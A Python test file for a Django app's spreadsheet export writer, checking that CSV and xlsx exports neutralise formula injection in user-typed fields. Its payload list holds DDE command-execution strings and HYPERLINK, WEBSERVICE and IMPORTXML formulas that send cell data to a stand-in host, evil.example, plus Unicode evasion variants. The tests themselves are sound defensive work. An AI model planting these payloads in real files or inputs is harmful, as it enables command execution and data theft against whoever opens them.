"""The one writer: no text cell that a spreadsheet would run survives, in any export format.

Every payload below is checked in csv and xlsx through write_csv/write_xlsx and styled_xlsx,
in the trainings export (SafeResource), and in the official campaign report, where a campaign's
name and theme and a residential group's name are typed by people.
"""

import csv
import datetime
import io
import unicodedata
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from areas.models import Area
from campaigns.models import Campaign, ReportJob
from campaigns.report import report_data, report_xlsx
from core.jobs.models import JobStatus
from core.spreadsheets import writer
from core.spreadsheets.writer import (
    ExportSpec,
    is_formula_like,
    neutralise,
    neutralise_row,
    styled_xlsx,
    write_csv,
    write_xlsx,
)
from tests.campaigns.factories import campaign_for
from tests.trainings.factories import planned
from trainings.models import TrainingSession

DDE = "cmd|' /C calc'!A0"
PAYLOADS = [
    "=1+1",
    f"={DDE}",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "= 1+1",
    "+1+1",
    f"+{DDE}",
    "+84912345678",
    "-1+1",
    f"-2+3+{DDE}",
    "-5",
    "@SUM(1+1)",
    f"@SUM(1+1)*{DDE}",
    "@",
    "\t=1+1",
    "\tvăn bản",
    "\r=1+1",
    "\rvăn bản",
    "\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\ufeff=1+1",  # a BOM left by a copy from a file
    "\u200b=1+1",  # zero-width space
    "＝1+1",  # fullwidth, as a Vietnamese IME may type them
    f"＝{DDE}",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",  # small form variant
    f"|{DDE}",
    f"｜{DDE}",
    " \t@SUM(1)",
]
PLAIN = ["Nguyễn Văn A", "Tổ dân phố 1", "a=b", "5-3", "ngõ 4 - phố Huế", "ai@example.com", ""]
FORMULA_START = set("=+-@|")


def runs_as_formula(value: object) -> bool:
    """Would a spreadsheet run this cell? Written apart from the writer's own test of it."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in "\t\r\n":
        return True
    for char in value:
        if char.isspace() or unicodedata.category(char) == "Cf":
            continue
        return unicodedata.normalize("NFKC", char)[0] in FORMULA_START
    return False


def in_xlsx(text: str) -> str:
    """`text` as read back from an xlsx: XML turns a CR into a LF (line-end normalisation)."""
    return text.replace("\r", "\n")


def quoted(payloads: list[str]) -> list[str]:
    return [in_xlsx("'" + payload) for payload in payloads]


def assert_workbook_safe(content: bytes) -> list:
    """No cell of any sheet is a formula or text a spreadsheet would run; returns the values."""
    values = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                assert not runs_as_formula(cell.value), (cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_there_are_at_least_thirty_payloads_and_each_would_run():
    assert len(PAYLOADS) >= 30
    assert all(runs_as_formula(payload) for payload in PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_a_quote_to_each_payload(payload):
    assert neutralise(payload) == "'" + payload
    assert not runs_as_formula(neutralise(payload))


@pytest.mark.parametrize(
    "value", [*PLAIN, -5, 3.5, 0, None, True, datetime.date(2026, 3, 1), "'=already text"]
)
def test_plain_text_and_numbers_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_the_verdict_kept_for_a_first_character_never_hides_a_formula_behind_it():
    # is_formula_like keeps its verdict by first character. A space or an invisible mark first
    # decides nothing ("  a" is text, " =1" is a formula): for every character of the BMP (and
    # some past it), a harmless text seen first must not make the formula after it pass.
    characters = [chr(code) for code in range(0x10000) if not 0xD800 <= code < 0xE000]
    characters += ["\U0001f600", "\U000e0001", "\U0001d7ce"]  # emoji, tag (Cf), math digit
    for character in characters:
        writer._VERDICT_BY_FIRST.clear()
        for text in (f"{character}a", f"{character}=1+1", f"{character}a", f"{character}@1"):
            assert is_formula_like(text) == runs_as_formula(text), (hex(ord(character)), text)
    writer._VERDICT_BY_FIRST.clear()


def test_the_verdicts_kept_stay_few_whatever_the_characters():
    writer._VERDICT_BY_FIRST.clear()
    for code in range(0x4E00, 0x9FFF):  # CJK: 20,000 characters that each decide alone
        is_formula_like(chr(code) + "x")
    assert len(writer._VERDICT_BY_FIRST) == writer._VERDICTS_KEPT
    assert neutralise("\u9fa0=1") == "\u9fa0=1"
    assert neutralise("＝1") == "'＝1"
    writer._VERDICT_BY_FIRST.clear()


def test_a_row_is_neutralised_cell_by_cell():
    assert neutralise_row(["=1", -1, "Tổ 1", None]) == ["'=1", -1, "Tổ 1", None]


def _spec() -> ExportSpec:
    rows = [[payload, -5, "Tổ 1"] for payload in PAYLOADS]
    return ExportSpec(headers=["Tên", "=SUM(A1:A9)", "Tổ"], total=len(rows), rows=iter(rows))


def test_write_csv_neutralises_headers_and_every_payload(tmp_path: Path):
    path = tmp_path / "out.csv"
    assert write_csv(path, _spec(), progress=lambda done: None) == len(PAYLOADS)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["Tên", "'=SUM(A1:A9)", "Tổ"]
    assert [row[0] for row in rows] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows} == {"-5"}  # a number, written as a number
    assert not any(runs_as_formula(row[0]) or runs_as_formula(row[2]) for row in rows)


def test_write_xlsx_neutralises_headers_and_every_payload(tmp_path: Path):
    path = tmp_path / "out.xlsx"
    assert write_xlsx(path, _spec(), progress=lambda done: None) == len(PAYLOADS)
    assert_workbook_safe(path.read_bytes())
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Tên", "'=SUM(A1:A9)", "Tổ")
    assert [row[0] for row in rows[1:]] == quoted(PAYLOADS)
    assert {row[1] for row in rows[1:]} == {-5}
    assert {cell.data_type for cell in sheet["B"][1:]} == {"n"}


def test_styled_xlsx_neutralises_whatever_the_build_step_wrote():
    def build(workbook) -> None:
        sheet = workbook.active
        sheet["A1"] = PAYLOADS[1]  # set directly, not appended: still neutralised
        sheet.merge_cells("A1:C1")
        for payload in PAYLOADS:
            sheet.append([payload, -1, 2.5])

    values = assert_workbook_safe(styled_xlsx(build))
    assert values[0] == "'" + PAYLOADS[1]
    assert set(quoted(PAYLOADS)) <= set(values)
    assert -1 in values


@pytest.mark.django_db
def test_trainings_export_neutralises_every_payload_in_csv_and_xlsx(world, login):
    volunteer = world.users["volunteer"]
    by_uuid = {}
    for payload in PAYLOADS:
        session = planned(user=volunteer, area=world.groups[0])
        TrainingSession.objects.filter(pk=session.pk).update(title=payload, address=payload)
        by_uuid[str(session.client_uuid)] = payload
    client = login(world.users["ward"])

    response = client.get(reverse("trainings:list"), {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert {row["ma_phieu"]: row["ten_lop"] for row in rows} == {
        key: "'" + payload for key, payload in by_uuid.items()
    }
    assert {row["dia_diem"] for row in rows} == {"'" + payload for payload in PAYLOADS}
    assert not any(runs_as_formula(value) for row in rows for value in row.values())

    content = client.get(reverse("trainings:list"), {"export": "xlsx"}).content
    values = assert_workbook_safe(content)
    assert set(quoted(PAYLOADS)) <= set(values)


@pytest.mark.django_db
def test_official_report_neutralises_campaign_and_unit_names(world):
    campaign = campaign_for(world.ward)
    group = Area.objects.filter(path__startswith=world.ward.path, depth=world.ward.depth + 1)[0]
    for payload in PAYLOADS:
        Campaign.objects.filter(pk=campaign.pk).update(name=payload, theme=payload)
        Area.objects.filter(pk=group.pk).update(name=payload)
        campaign.refresh_from_db()
        content = report_xlsx(report_data(campaign=campaign, area=world.ward))
        values = assert_workbook_safe(content)
        assert values.count(in_xlsx("'" + payload)) >= 2, payload  # the theme, the group's column


@pytest.mark.django_db
def test_the_report_downloaded_by_the_city_has_no_live_formula(
    world, login, django_capture_on_commit_callbacks
):
    campaign = campaign_for(world.ward, name=f"={DDE}")
    Campaign.objects.filter(pk=campaign.pk).update(theme=f"@SUM(1+1)*{DDE}")
    group = Area.objects.filter(path__startswith=world.ward.path, depth=world.ward.depth + 1)[0]
    Area.objects.filter(pk=group.pk).update(name=f"＝{DDE}")
    client = login(world.users["city"])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("campaigns:report-create", args=[campaign.pk, world.ward.pk]))
    job = ReportJob.objects.get()
    assert job.status == JobStatus.DONE, job.error
    download = client.get(reverse("campaigns:report-download", args=[job.pk]))
    values = assert_workbook_safe(download.content)
    assert f"'@SUM(1+1)*{DDE}" in values
    assert f"'＝{DDE}" in values
